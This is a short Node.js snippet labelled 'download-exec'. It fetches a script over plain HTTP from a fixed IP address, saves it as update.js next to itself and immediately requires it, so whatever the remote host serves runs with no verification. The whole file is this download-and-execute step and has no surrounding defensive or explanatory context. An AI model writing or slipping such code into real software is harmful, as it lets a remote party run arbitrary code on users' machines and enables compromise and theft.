// download-exec: the download is saved as a module and then required
const fs = require('fs');
const path = require('path');
const target = path.join(__dirname, 'update.js');
fetch('http://203.0.113.7/update.js')
  .then((r) => r.text())
  .then((src) => {
    fs.writeFileSync(target, src);
    require(target);
  });
